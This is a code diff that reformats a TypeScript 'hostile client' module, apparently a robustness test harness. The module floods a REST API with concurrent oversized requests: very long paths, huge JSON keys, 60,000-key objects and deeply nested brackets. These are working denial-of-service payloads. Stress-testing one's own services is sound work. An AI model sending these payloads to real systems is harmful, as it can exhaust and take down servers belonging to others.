@@ -11,7 +11,12 @@ type Attempt = Asked & { path: string }
 /** Sends what `next` makes, `order.strength.requests` at a time, until the end. */
 async function keepAsking(
   order: HostileOrder,
-  { address, count, end, next }: { address: string; count: Count; end: AbortSignal; next: (at: number) => Attempt },
+  {
+    address,
+    count,
+    end,
+    next,
+  }: { address: string; count: Count; end: AbortSignal; next: (at: number) => Attempt },
 ): Promise<void> {
   const agent = new Agent({ keepAlive: true, maxSockets: order.strength.requests })
   const client: Client = { port: order.port, key: order.key, agent, address }
@@ -79,20 +84,25 @@ export const deepEmbeds: HostileClient = (order, given) =>
     },
   })
 
+const post = (path: string, body: string) => ({ method: 'POST', path: `/rest/v1/${path}`, body })
+
 /** Names that nothing has, for which the server looks for similar ones. */
 export const unknownNames: HostileClient = (order, given) =>
   keepAsking(order, {
     ...given,
     next: at => {
       const long = fresh() + 'matchesplayers'.repeat(1_050)
-      const post = (path: string, body: string) => ({ method: 'POST', path: `/rest/v1/${path}`, body })
       const attempts = [
         () => ({ path: `/rest/v1/${long}` }),
         () => ({ path: `/rest/v1/matches?select=${long}` }),
         () => ({ path: `/rest/v1/matches?select=${long}(*)` }),
         () => ({ path: `/rest/v1/rpc/${long}` }),
         () => post('rpc/search', JSON.stringify({ ['matchesplayers'.repeat(65_000)]: 1 })),
-        () => post('rpc/search', JSON.stringify(Object.fromEntries(Array.from({ length: 60_000 }, (_, n) => [`k${n}`, n])))),
+        () =>
+          post(
+            'rpc/search',
+            JSON.stringify(Object.fromEntries(Array.from({ length: 60_000 }, (_, n) => [`k${n}`, n]))),
+          ),
         () => post('rpc/front_page', '['.repeat(450_000) + ']'.repeat(450_000)),
       ]
       return attempts[at % attempts.length]?.() ?? { path: '/rest/v1/' }
